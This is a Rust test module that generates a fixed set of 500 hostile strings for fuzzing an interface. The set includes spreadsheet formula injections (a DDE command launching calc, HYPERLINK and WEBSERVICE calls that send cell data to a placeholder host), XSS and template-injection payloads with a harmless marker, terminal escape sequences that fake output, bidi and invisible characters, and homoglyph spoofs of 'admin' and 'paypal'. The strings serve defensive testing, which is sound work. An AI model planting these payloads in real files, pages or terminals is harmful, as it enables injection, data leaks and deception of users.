//! Texts that mean harm: the same ones for the same seed, of every kind that a spreadsheet, a page, a terminal or an
//! eye could take for something else. Kept here once; rooms and the window are tried with them.

/// The seed of the kept strings.
pub const SEED: u64 = 20_261_205;
/// How many there are.
pub const MANY: usize = 500;

struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn one<'a, T: ?Sized>(&mut self, of: &'a [&'a T]) -> &'a T {
        of[usize::try_from(self.next() % of.len() as u64).unwrap_or(0)]
    }
    fn up_to(&mut self, most: usize) -> usize {
        1 + usize::try_from(self.next() % most as u64).unwrap_or(0)
    }
}

/// What begins a formula in one spreadsheet or another.
pub const FORMULAS: [&str; 16] =
    ["=", "=", "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'=", "\u{FEFF}="];
const FORMULA_ENDS: [&str; 6] = [
    "1+1",
    "HYPERLINK(\"http://x.invalid/?\"&A1,\"点这里\")",
    "cmd|' /C calc'!A0",
    "IMPORTXML(CONCAT(\"http://x.invalid/\",A1),\"//a\")",
    "SUM(A1:A9)*2",
    "WEBSERVICE(\"http://x.invalid\")",
];
const HTML: [&str; 18] = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "\"><svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<a href=javascript:window.__pwned=1>点</a>",
    "javascript:window.__pwned=1//",
    "data:text/html,<script>parent.__pwned=1</script>",
    "' onmouseover='window.__pwned=1' x='",
    "\" autofocus onfocus=\"window.__pwned=1",
    "</style></title></textarea></script><script>window.__pwned=1</script>",
    "<!--><script>window.__pwned=1</script>-->",
    "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1} #{7*7}",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;b&#62;",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    "<object data=x></object><embed src=x><base href=//x.invalid><meta http-equiv=refresh content=0>",
    "{@html '<b>'} {#each} {name} {0}",
];
const BIDI: [char; 13] = [
    '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
    '\u{200E}', '\u{200F}', '\u{061C}', '\u{2029}',
];
const INVISIBLE: [char; 12] = [
    '\u{200B}',
    '\u{200C}',
    '\u{200D}',
    '\u{2060}',
    '\u{FEFF}',
    '\u{00AD}',
    '\u{180E}',
    '\u{3164}',
    '\u{E0041}',
    '\u{FE0F}',
    '\u{2028}',
    '\u{FFF9}',
];
const CONTROL: [char; 14] = [
    '\0', '\u{1}', '\u{7}', '\u{8}', '\t', '\r', '\u{b}', '\u{c}', '\u{1a}', '\u{1b}', '\u{7f}', '\u{85}', '\u{90}',
    '\u{9b}',
];
const ESCAPES: [&str; 6] = [
    "\u{1b}[2J\u{1b}[H第 3 桌：已汇总",
    "\u{1b}]0;标题\u{7}",
    "\u{1b}]8;;http://x.invalid\u{7}点\u{1b}]8;;\u{7}",
    "\u{9b}31m红",
    "\r第 3 桌：已汇总",
    "假的一行\n第 3 桌：已汇总",
];
/// Letters of other scripts that look like Latin ones.
const ALIKE: [&str; 5] = ["аdmіn", "рaypаl", "Ηello", "ⅼ00ⅼ", "𝐀𝐁𝐂"];
const RIGHT_TO_LEFT: [&str; 4] = ["مرحبا 123 456", "שלום (12) 34", "مرحبا — 5 > 3", "אבג\n1. דהו"];

/// So many strings; every kind comes in turn.
pub fn strings(seed: u64, many: usize) -> Vec<String> {
    let mut dice = Dice(seed);
    (0..many).map(|at| one(&mut dice, at % 12)).collect()
}

fn one(dice: &mut Dice, kind: usize) -> String {
    let around = |dice: &mut Dice, c: char| {
        let (before, after) = (dice.one(&["扶手", "abc", "", "100 元"]), dice.one(&["gpj.exe", "路灯", "", "001"]));
        format!("{before}{c}{after}")
    };
    match kind {
        0 | 1 => format!("{}{}", dice.one(&FORMULAS), dice.one(&FORMULA_ENDS)),
        2 | 3 => dice.one(&HTML).to_owned(),
        4 => {
            let at = dice.up_to(BIDI.len()) - 1;
            around(dice, BIDI[at])
        }
        5 => {
            let at = dice.up_to(INVISIBLE.len()) - 1;
            around(dice, INVISIBLE[at])
        }
        6 => {
            let at = dice.up_to(CONTROL.len()) - 1;
            around(dice, CONTROL[at])
        }
        7 => dice.one(&ESCAPES).to_owned(),
        8 => dice.one(&ALIKE).to_owned(),
        9 => dice.one(&RIGHT_TO_LEFT).to_owned(),
        10 => "长wide".repeat(dice.up_to(180)),
        _ => format!("字{}", "\u{0301}\u{0489}\u{20DD}".repeat(dice.up_to(60))),
    }
}

#[test]
fn the_kept_strings_are_the_same_every_time_and_of_every_kind() {
    let all = strings(SEED, MANY);
    assert_eq!((all.len(), &all), (MANY, &strings(SEED, MANY)));
    let some = |what: &dyn Fn(&String) -> bool| assert!(all.iter().filter(|text| what(text)).count() > 3);
    some(&|text| text.contains("<script>"));
    some(&|text| text.starts_with('='));
    some(&|text| text.contains('\u{1b}'));
    some(&|text| text.chars().any(|c| BIDI.contains(&c)));
    some(&|text| text.chars().count() > 200);
    some(&|text| text.contains("مرحبا"));
}
